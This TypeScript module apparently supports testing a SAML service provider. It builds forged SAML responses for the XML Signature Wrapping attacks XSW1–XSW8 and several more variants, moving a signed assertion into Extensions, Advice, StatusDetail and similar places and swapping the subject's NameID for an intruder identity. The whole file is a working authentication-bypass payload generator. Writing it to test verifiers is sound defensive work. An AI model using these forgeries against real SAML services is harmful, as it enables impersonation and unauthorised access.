import { DOMParser } from '@xmldom/xmldom';

/** What an attacker would be let in as. */
export const INTRUDER = 'intruder-0000';

interface Node {
  readonly parentNode: Element | null;
  readonly nextSibling: Node | null;
  cloneNode(deep: boolean): Element;
  toString(): string;
}
interface Element extends Node {
  readonly localName: string;
  readonly firstChild: Node | null;
  textContent: string;
  getElementsByTagNameNS(namespace: string, name: string): ArrayLike<Element>;
  setAttribute(name: string, value: string): void;
  appendChild(node: Node): void;
  insertBefore(node: Node, before: Node | null): void;
  removeChild(node: Node): void;
}
interface Document extends Node {
  readonly documentElement: Element;
  createElementNS(namespace: string, name: string): Element;
  replaceChild(node: Node, old: Node): void;
}

const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
const DS = 'http://www.w3.org/2000/09/xmldsig#';

/** A response taken apart, with what attacks on it are put together from. */
class Parts {
  readonly document: Document;
  readonly response: Element;
  readonly assertion: Element;
  readonly sameId: boolean;

  constructor(xml: string, sameId: boolean) {
    this.document = new DOMParser().parseFromString(xml, 'text/xml') as unknown as Document;
    this.response = this.document.documentElement;
    this.assertion = first(this.response, SAML, 'Assertion');
    this.sameId = sameId;
  }

  /** A copy that says somebody else is here, unsigned. */
  evil(original: Element): Element {
    const copy = without(original.cloneNode(true), DS, 'Signature');
    first(copy, SAML, 'NameID').textContent = INTRUDER;
    if (this.sameId) return copy;
    copy.setAttribute('ID', '_evil');
    for (const inner of Array.from(copy.getElementsByTagNameNS(SAML, 'Assertion'))) {
      inner.setAttribute('ID', '_evil-assertion');
    }
    return copy;
  }

  /** The signature right below an element, taken out of it. */
  takeSignature(from: Element): Element {
    const signature = first(from, DS, 'Signature');
    signature.parentNode?.removeChild(signature);
    return signature;
  }

  /** The response with another root. */
  withRoot(root: Element): string {
    this.document.replaceChild(root, this.response);
    return this.document.toString();
  }

  element(namespace: string, name: string, ...children: Element[]): Element {
    const made = this.document.createElementNS(namespace, name);
    for (const child of children) made.appendChild(child);
    return made;
  }

  toString(): string {
    return this.document.toString();
  }
}

function first(within: Element, namespace: string, name: string): Element {
  const found = within.getElementsByTagNameNS(namespace, name)[0];
  if (!found) throw new Error(`There is no ${name}.`);
  return found;
}

function without(element: Element, namespace: string, name: string): Element {
  for (const found of Array.from(element.getElementsByTagNameNS(namespace, name))) {
    found.parentNode?.removeChild(found);
  }
  return element;
}

/** Puts the evil assertion where the good one was, and says where that one went. */
function inPlaceOf(parts: Parts, place: (evil: Element, original: Element) => void): string {
  const { response, assertion } = parts;
  const evil = parts.evil(assertion);
  response.insertBefore(evil, assertion);
  response.removeChild(assertion);
  place(evil, assertion);
  return parts.toString();
}

/** One attack: what comes of a response taken apart. */
export type Wrapping = (parts: Parts) => string;

/** Attacks on a response that is signed as a whole. */
export const responseWrappings: Readonly<Record<string, Wrapping>> = {
  'XSW1: the signed response within the signature of a new one': (parts) => {
    const evil = parts.evil(parts.response);
    const signature = parts.takeSignature(parts.response);
    const original = parts.response.cloneNode(true);
    signature.appendChild(original);
    evil.insertBefore(signature, first(evil, SAMLP, 'Status'));
    return parts.withRoot(evil);
  },
  'XSW2: the signed response beside the signature of a new one': (parts) => {
    const evil = parts.evil(parts.response);
    const signature = parts.takeSignature(parts.response);
    const status = first(evil, SAMLP, 'Status');
    evil.insertBefore(parts.response.cloneNode(true), status);
    evil.insertBefore(signature, status);
    return parts.withRoot(evil);
  },
  'XSW2b: the signed response within the Extensions of a new one': (parts) => {
    const evil = parts.evil(parts.response);
    const extensions = parts.element(SAMLP, 'samlp:Extensions', parts.response.cloneNode(true));
    evil.insertBefore(extensions, first(evil, SAMLP, 'Status'));
    return parts.withRoot(evil);
  },
  'XSW2c: the signed response within the status of a new one': (parts) => {
    const evil = parts.evil(parts.response);
    const detail = parts.element(SAMLP, 'samlp:StatusDetail', parts.response.cloneNode(true));
    first(evil, SAMLP, 'Status').appendChild(detail);
    return parts.withRoot(evil);
  },
};

/** Attacks on a response whose assertion is signed. */
export const assertionWrappings: Readonly<Record<string, Wrapping>> = {
  'XSW3: an assertion before the signed one': (parts) => {
    parts.response.insertBefore(parts.evil(parts.assertion), parts.assertion);
    return parts.toString();
  },
  'XSW3b: an assertion behind the signed one': (parts) => {
    parts.response.appendChild(parts.evil(parts.assertion));
    return parts.toString();
  },
  'XSW4: the signed assertion within another': (parts) =>
    inPlaceOf(parts, (evil, original) => evil.appendChild(original)),
  'XSW5: the signature in another assertion, the signed one behind it': (parts) =>
    inPlaceOf(parts, (evil, original) => {
      const signature = parts.takeSignature(original);
      evil.insertBefore(signature, first(evil, SAML, 'Subject'));
      parts.response.appendChild(original);
    }),
  'XSW6: the signed assertion within the signature in another': (parts) =>
    inPlaceOf(parts, (evil, original) => {
      const signature = parts.takeSignature(original);
      signature.appendChild(original);
      evil.insertBefore(signature, first(evil, SAML, 'Subject'));
    }),
  'XSW7: an assertion in Extensions': (parts) => {
    const extensions = parts.element(SAMLP, 'samlp:Extensions', parts.evil(parts.assertion));
    parts.response.insertBefore(extensions, first(parts.response, SAMLP, 'Status'));
    return parts.toString();
  },
  'XSW7b: the signed assertion in Extensions, another in its place': (parts) =>
    inPlaceOf(parts, (_evil, original) => {
      const extensions = parts.element(SAMLP, 'samlp:Extensions', original);
      parts.response.insertBefore(extensions, first(parts.response, SAMLP, 'Status'));
    }),
  'XSW8: the signed assertion in an Object of the signature in another': (parts) =>
    inPlaceOf(parts, (evil, original) => {
      const signature = parts.takeSignature(original);
      signature.appendChild(parts.element(DS, 'ds:Object', original));
      evil.insertBefore(signature, first(evil, SAML, 'Subject'));
    }),
  'in the Advice of another': (parts) =>
    inPlaceOf(parts, (evil, original) => {
      const advice = parts.element(SAML, 'saml:Advice', original);
      evil.insertBefore(advice, first(evil, SAML, 'AuthnStatement'));
    }),
  'in the status of the response': (parts) =>
    inPlaceOf(parts, (_evil, original) => {
      const detail = parts.element(SAMLP, 'samlp:StatusDetail', original);
      first(parts.response, SAMLP, 'Status').appendChild(detail);
    }),
  'in the value of an attribute of another': (parts) =>
    inPlaceOf(parts, (evil, original) => {
      const value = first(evil, SAML, 'AttributeValue');
      value.textContent = '';
      value.appendChild(original);
    }),
  'in the data of the confirmation of another': (parts) =>
    inPlaceOf(parts, (evil, original) => {
      first(evil, SAML, 'SubjectConfirmationData').appendChild(original);
    }),
};

/** The attack on a good response. `sameId`: what is put in keeps the id that was signed. */
export function wrap(attack: Wrapping, xml: string, sameId: boolean): string {
  return attack(new Parts(xml, sameId));
}
